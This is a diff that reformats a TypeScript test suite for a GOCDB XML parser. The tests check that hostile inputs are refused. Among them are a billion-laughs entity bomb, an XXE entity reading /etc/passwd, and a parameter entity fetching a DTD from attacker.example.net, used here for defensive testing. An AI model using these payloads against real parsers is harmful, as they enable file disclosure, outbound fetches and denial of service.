@@ -3,19 +3,29 @@ import { test } from 'node:test';
 import { InvalidError, TooLargeError } from '../../core/errors.js';
 import { parseGocdb } from './parse.js';
 
-const SITE = (i: number) => `<SITE PRIMARY_KEY="${i}G0" NAME="S${i}"><SHORT_NAME>S${i}</SHORT_NAME>` +
+const SITE = (i: number) =>
+  `<SITE PRIMARY_KEY="${i}G0" NAME="S${i}"><SHORT_NAME>S${i}</SHORT_NAME>` +
   `<CONTACT_EMAIL>ops@s${i}.example.org</CONTACT_EMAIL><SCOPES><SCOPE>EGI</SCOPE></SCOPES></SITE>\n`;
 
 /** Rejects with `type`, a one-line message matching `pattern`, and of course no result. */
-async function rejects(input: Parameters<typeof parseGocdb>[0], type: typeof InvalidError | typeof TooLargeError,
-  pattern: RegExp, limits?: Parameters<typeof parseGocdb>[1]): Promise<void> {
+async function rejects(
+  input: Parameters<typeof parseGocdb>[0],
+  type: typeof InvalidError | typeof TooLargeError,
+  pattern: RegExp,
+  limits?: Parameters<typeof parseGocdb>[1],
+): Promise<void> {
   let result: unknown;
-  await assert.rejects(async () => { result = await parseGocdb(input, limits); }, (err: Error) => {
-    assert.ok(err instanceof type, `${err.name}: ${err.message}`);
-    assert.match(err.message, pattern);
-    assert.doesNotMatch(err.message, /\n/);
-    return true;
-  });
+  await assert.rejects(
+    async () => {
+      result = await parseGocdb(input, limits);
+    },
+    (err: Error) => {
+      assert.ok(err instanceof type, `${err.name}: ${err.message}`);
+      assert.match(err.message, pattern);
+      assert.doesNotMatch(err.message, /\n/);
+      return true;
+    },
+  );
   assert.equal(result, undefined);
 }
 
@@ -39,26 +49,29 @@ function generated(total: number, chunkOf: (i: number) => string, head = '<resul
 }
 
 test('a billion-laughs document is refused at its DOCTYPE', async () => {
-  const lol = ['<!ENTITY lol0 "lol">', ...Array.from({ length: 9 }, (_, i) =>
-    `<!ENTITY lol${i + 1} "${`&lol${i};`.repeat(10)}">`)].join('\n');
+  const lol = ['<!ENTITY lol0 "lol">', ...Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i};`.repeat(10)}">`)].join('\n');
 
-  await rejects(`<?xml version="1.0"?>\n<!DOCTYPE results [\n${lol}\n]>\n<results>&lol9;</results>`,
-    InvalidError, /DOCTYPE is not allowed .* at line 13/);
+  await rejects(`<?xml version="1.0"?>\n<!DOCTYPE results [\n${lol}\n]>\n<results>&lol9;</results>`, InvalidError, /DOCTYPE is not allowed .* at line 13/);
 });
 
 test('an external entity (XXE) is refused and nothing is read', async () => {
-  await rejects('<?xml version="1.0"?><!DOCTYPE results [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>' +
-    '<results><NGI ID="1"><NAME>&xxe;</NAME></NGI></results>', InvalidError, /DOCTYPE is not allowed/);
+  await rejects(
+    '<?xml version="1.0"?><!DOCTYPE results [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>' + '<results><NGI ID="1"><NAME>&xxe;</NAME></NGI></results>',
+    InvalidError,
+    /DOCTYPE is not allowed/,
+  );
 });
 
 test('a parameter entity pulling an external DTD is refused', async () => {
-  await rejects('<!DOCTYPE results [<!ENTITY % remote SYSTEM "http://attacker.example.net/x.dtd"> %remote;]>' +
-    '<results/>', InvalidError, /DOCTYPE is not allowed/);
+  await rejects(
+    '<!DOCTYPE results [<!ENTITY % remote SYSTEM "http://attacker.example.net/x.dtd"> %remote;]>' + '<results/>',
+    InvalidError,
+    /DOCTYPE is not allowed/,
+  );
 });
 
 test('an undefined entity without any DOCTYPE is invalid XML', async () => {
-  await rejects('<results>\n<NGI ID="1"><NAME>&xxe;</NAME></NGI></results>', InvalidError,
-    /invalid XML at line 2, column \d+: undefined entity/);
+  await rejects('<results>\n<NGI ID="1"><NAME>&xxe;</NAME></NGI></results>', InvalidError, /invalid XML at line 2, column \d+: undefined entity/);
 });
 
 test('a 50 MB stream is cut off at the byte limit without being read to the end', async () => {
@@ -94,8 +107,7 @@ test('10,000-deep nesting is refused at the depth limit', async () => {
 });
 
 test('invalid UTF-8 is refused, naming where it was met', async () => {
-  const bytes = Buffer.concat([Buffer.from('<results>\n<NGI ID="1"><NAME>NGI_'), Buffer.from([0xc3, 0x28]),
-    Buffer.from('</NAME></NGI></results>')]);
+  const bytes = Buffer.concat([Buffer.from('<results>\n<NGI ID="1"><NAME>NGI_'), Buffer.from([0xc3, 0x28]), Buffer.from('</NAME></NGI></results>')]);
 
   await rejects(bytes, InvalidError, /invalid UTF-8 in bytes/);
 });
@@ -148,8 +160,11 @@ test('too many elements are refused', async () => {
 });
 
 test('an element text over 64 KiB is refused', async () => {
-  await rejects(`<results><NGI ID="1"><DESCRIPTION>${'é'.repeat(40_000)}</DESCRIPTION></NGI></results>`,
-    TooLargeError, /text of <DESCRIPTION> over 65536 bytes/);
+  await rejects(
+    `<results><NGI ID="1"><DESCRIPTION>${'é'.repeat(40_000)}</DESCRIPTION></NGI></results>`,
+    TooLargeError,
+    /text of <DESCRIPTION> over 65536 bytes/,
+  );
 });
 
 test('a huge attribute value is refused', async () => {
@@ -160,7 +175,7 @@ test('the same limits hold inside elements the parser ignores', async () => {
   await rejects(`<results><DOWNTIME>${'<a>'.repeat(40)}</DOWNTIME></results>`, TooLargeError, /nested deeper/);
 });
 
-test('an error of the caller\'s stream propagates unchanged', async () => {
+test("an error of the caller's stream propagates unchanged", async () => {
   async function* failing() {
     yield Buffer.from('<results>');
     throw new Error('connection reset');
